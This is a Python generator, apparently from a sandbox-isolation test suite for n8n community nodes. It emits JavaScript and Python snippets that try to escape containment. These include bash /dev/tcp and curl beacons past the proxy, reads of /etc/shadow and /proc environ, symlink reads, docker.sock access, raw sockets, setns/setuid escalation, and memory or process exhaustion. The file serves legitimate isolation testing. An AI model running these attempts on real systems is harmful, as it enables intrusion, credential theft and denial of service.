"""Writes the code of a community node that uses sockets, files and programs directly."""

from __future__ import annotations

import json
import random
from collections.abc import Sequence

from evals.rehearsal_hostile.targets import Targets

_PORTS = (22, 25, 53, 80, 443, 6_379)
_NAME_SERVERS = ("198.51.100.53", "203.0.113.53", "127.0.0.53")

# JavaScript by the name of the attempt, with words in capitals for the targets. No attempt ends a
# process of the machine that measures: without namespaces these programs see all of them.
ATTEMPTS = {
    "tcp": """await attempt('tcp', () => new Promise((done, fail) => {
  const socket = require('net').connect(PORT, ADDRESS, () => socket.end(MARK, done));
  socket.on('error', fail);
}));""",
    "tcp to the machine": """for (const host of ['127.0.0.1', '::1', 'localhost', '0.0.0.0'])
  await attempt('tcp to the machine', () => new Promise((done, fail) => {
    const socket = require('net').connect(LISTENER, host, () => socket.end(MARK, done));
    socket.on('error', fail);
  }));""",
    "udp": """await attempt('udp socket', () => new Promise((done, fail) => {
  const socket = require('dgram').createSocket(ADDRESS.includes(':') ? 'udp6' : 'udp4');
  socket.on('error', fail);
  socket.send(MARK, PORT, ADDRESS, (error) => error ? fail(error) : done());
}));""",
    "udp to the machine": """await attempt('udp to the machine', () => new Promise((done, fail) => {
  const socket = require('dgram').createSocket('udp4');
  socket.on('error', fail);
  socket.send(MARK, LISTENER, '127.0.0.1', (error) => error ? fail(error) : fail());
}));""",
    "name": """await attempt('name', () => require('dns').promises.lookup(MARK + '.example.com'));
await attempt('name', () => require('dns').promises.resolve4(MARK + '.example.com'));
const resolver = new (require('dns').promises.Resolver)();
resolver.setServers([SERVER]);
await attempt('name', () => resolver.resolve4(MARK + '.example.com'));""",
    "fetch": """await attempt('fetch past the proxy', async () => {
  const http = require('http'), agent = new http.Agent({proxyEnv: {}});
  const request = {host: ADDRESS, port: PORT, path: '/' + MARK, agent};
  await new Promise((done, fail) => http.get(request, done).on('error', fail));
});""",
    "unix": """const system = ['/var/run/docker.sock', '/run/dbus/system_bus_socket'];
for (const path of [DOOR, '\\0' + MARK, ...system])
  await attempt('unix socket ' + path, () => new Promise((done, fail) => {
    const socket = require('net').connect({path}, () => socket.end(MARK, done));
    socket.on('error', fail);
  }));""",
    "read": """const process_ = '/proc/' + VICTIM;
for (const path of [SECRET, '/etc/shadow', process_ + '/environ', process_ + '/root' + SECRET])
  await attempt('read ' + path, async () => require('fs').readFileSync(path));
await attempt('read by a link', async () => {
  const fs = require('fs'), link = process.env.HOME + '/' + Math.random();
  fs.symlinkSync(SECRET, link);
  fs.readFileSync(link);
});""",
    "write": """const system = ['/tmp', '/var/tmp', '/usr', '/etc', '/dev/shm', '/root'];
for (const path of [OUTSIDE, ...system])
  await attempt('write ' + path, async () => {
    require('fs').writeFileSync(path + '/' + MARK, MARK);
  });
await attempt('write a package', async () => require('fs').writeFileSync(
  require.resolve('n8n-nodes-hostile/package.json'), MARK));""",
    "shell": """const {spawnSync} = require('child_process');
spawnSync('bash', ['-c', 'echo MARK > /dev/tcp/HOST/PORT'.replace('MARK', MARK)
  .replace('HOST', ADDRESS).replace('PORT', PORT)], {timeout: 1500});
spawnSync('bash', ['-c', `echo ${MARK} > /dev/udp/${ADDRESS}/${PORT}`], {timeout: 1500});
spawnSync('curl', ['-m', '1', '--noproxy', '*', `http://${ADDRESS}:${PORT}/${MARK}`]);
spawnSync('ping', ['-c', '1', '-W', '1', ADDRESS], {timeout: 1500});""",
    "python": """const code = `
import socket, sys, os, ctypes
address, port, mark = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
def attempt(work):
    try: work()
    except Exception: pass
family = socket.AF_INET6 if ':' in address else socket.AF_INET
def send(kind, protocol=0, flags=0):
    with socket.socket(family, kind, protocol) as out:
        out.settimeout(0.3)
        out.sendto(mark, flags, (address, port))
def connect(protocol):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as out:
        out.settimeout(0.3)
        out.connect((address, port))
        out.send(mark)
attempt(lambda: send(socket.SOCK_DGRAM))
attempt(lambda: send(socket.SOCK_STREAM, 0, 0x20000000))
attempt(lambda: send(socket.SOCK_RAW, socket.IPPROTO_UDP))
attempt(lambda: send(socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt(lambda: send(socket.SOCK_DGRAM, socket.IPPROTO_ICMP))
for protocol in (6, 132, 262): attempt(lambda: connect(protocol))
def raw():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as out:
        out.bind(('eth0', 0))
        out.send(b'\\\\xff' * 12 + b'\\\\x08\\\\x00' + mark)
attempt(raw)
def vsock():
    with socket.socket(40, socket.SOCK_STREAM) as out:
        out.settimeout(0.3)
        out.connect((2, port))
attempt(vsock)
libc = ctypes.CDLL(None)
libc.unshare(0x10000000); libc.setns(os.open('/proc/self/ns/net', 0), 0)
attempt(lambda: os.setuid(0))
attempt(lambda: send(socket.SOCK_DGRAM))
`;
require('child_process').spawnSync('python3', ['-c', code, ADDRESS, String(PORT), MARK],
  {timeout: 8000});""",
    "process": """await attempt('signal a process', async () => process.kill(VICTIM, 0));
await attempt('list processes', async () => {
  const all = require('fs').readdirSync('/proc').filter((name) => +name === VICTIM);
  if (!all.length) throw new Error();
  require('fs').readFileSync('/proc/' + VICTIM + '/environ');
});
for (let count = 0; count < 40; count++)
  require('child_process').spawn('sleep', ['4243'], {detached: true, stdio: 'ignore'})
    .on('error', () => {}).unref();""",
    "memory": """const all = [];
await attempt('memory', async () => { for (;;) all.push(Buffer.alloc(2 ** 28, 1)); });""",
    "stop": "while (true) {}",
    "exit": "process.exit(0);",
    "listen": """await attempt('listen', () => new Promise((done, fail) => require('net')
  .createServer().on('error', fail).listen(PORT, '0.0.0.0', () => fail())));""",
}
# Those that end n8n, or wait for a limit, cost a new start.
_RARE = ("memory", "stop", "exit")
_RARELY = 0.06


def write_native_code(chance: random.Random, targets: Targets) -> str:
    """Returns JavaScript with some attempts on the targets."""
    if chance.random() < _RARELY:
        return write_attempts(chance, targets, [chance.choice(_RARE)])
    common = [name for name in ATTEMPTS if name not in _RARE]
    return write_attempts(chance, targets, chance.sample(common, chance.randint(1, 4)))


def write_attempts(chance: random.Random, targets: Targets, names: Sequence[str]) -> str:
    """Returns JavaScript with the named attempts, on an address and a port by chance."""
    values = {
        "ADDRESS": targets.pick_address(chance).strip("[]"),
        "PORT": chance.choice((*_PORTS, chance.randint(1, 65_535))),
        "LISTENER": targets.port,
        "MARK": targets.mark,
        "DOOR": targets.door,
        "SECRET": targets.secret_file,
        "OUTSIDE": targets.outside,
        "VICTIM": targets.victim,
        "SERVER": chance.choice(_NAME_SERVERS),
    }
    head = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in values.items())
    return head + "\n".join(f"{{{ATTEMPTS[name]}\n}}" for name in names)
